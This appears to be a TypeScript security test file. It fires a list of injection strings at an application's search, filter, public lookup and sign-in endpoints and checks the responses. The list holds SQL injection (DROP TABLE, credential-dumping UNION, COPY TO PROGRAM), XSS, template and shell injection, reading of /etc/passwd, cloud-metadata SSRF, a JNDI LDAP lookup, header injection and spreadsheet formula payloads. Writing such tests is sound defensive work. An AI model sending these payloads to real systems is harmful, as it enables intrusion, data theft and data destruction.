/** Text that means something else to somebody: SQL, HTML, shells, templates, logs, headers. It is only ever text here. */
import { contract } from '../../testing/registry.js';
import { asClerk, postJson, request, type Attack } from '../attack.js';

const TEXTS: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE event; --",
  "' UNION SELECT username, password_hash FROM account --",
  "\\'; SELECT pg_sleep(30); --",
  '" OR ""="',
  '1; SELECT pg_sleep(30)',
  '$1',
  "%' AND 1=0 UNION SELECT null --",
  "'||(SELECT version())||'",
  "E'\\\\x27'",
  "admin'--",
  "') OR ('a'='a",
  '%_%',
  '%%%%',
  '_',
  '\\',
  '%',
  "' AND extract(epoch from now())::text LIKE '%",
  'U&"d\\0061t\\+000061"',
  "COPY event TO PROGRAM 'id'",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<svg/onload=alert(1)>',
  '&lt;script&gt;',
  '</title><script>',
  '{{constructor.constructor("return process")()}}',
  '${process.env}',
  '#{7*7}',
  '<%= 7*7 %>',
  '$(id)',
  '`id`',
  '; cat /etc/passwd',
  '| ls',
  '../../../../etc/passwd',
  '..\\..\\windows',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data',
  '\r\nSet-Cookie: qianqi_session=x',
  '\nX-Injected: 1',
  '${jndi:ldap://x/a}',
  '=HYPERLINK("http://x")',
  '+cmd|calc',
  '@SUM(1)',
  '{"$gt":""}',
  '{"$where":"sleep(4000)"}',
  '*)(uid=*))(|(uid=*',
  "' or count(/*)=0 or 'a'='b",
  '\u202Egnp.exe',
  'ﬁ'.repeat(50),
  '\u0000',
  '😀'.repeat(50),
  'a'.repeat(101),
  '零'.repeat(100),
  'ａ'.repeat(100),
];

export const INJECTIONS: readonly Attack[] = TEXTS.flatMap(text => {
  const shown = JSON.stringify(text).slice(0, 50);
  const path = encodeURIComponent(text);
  return [
    asClerk(`searching ${shown}`, contract('EnterprisePage'), { search: text }),
    asClerk(`filtering by ${shown}`, contract('EnterprisePage'), {
      where: { divisionCode: { eq: text }, creditCode: { startsWith: text } },
    }),
    asClerk(`tasks of ${shown}`, contract('Tasks'), {
      where: { search: text, divisionCode: { in: [text] } },
    }),
    {
      name: `the public looks up ${shown}`,
      statuses: [200, 400],
      echoed: text,
      send: target => request(target.address, `/public/enterprises?q=${path}`),
    },
    {
      name: `the public list searched for ${shown}`,
      statuses: [200, 400],
      send: target =>
        postJson(target, { query: contract('PublicList'), variables: { list: 'BLACK', search: text } }),
    },
    {
      name: `signing in as ${shown}`,
      statuses: [200],
      codes: ['BAD_CREDENTIALS', 'LOCKED'],
      send: target =>
        postJson(target, {
          query: contract('SignIn'),
          variables: { input: { username: text, password: text } },
        }),
    },
  ] satisfies Attack[];
});
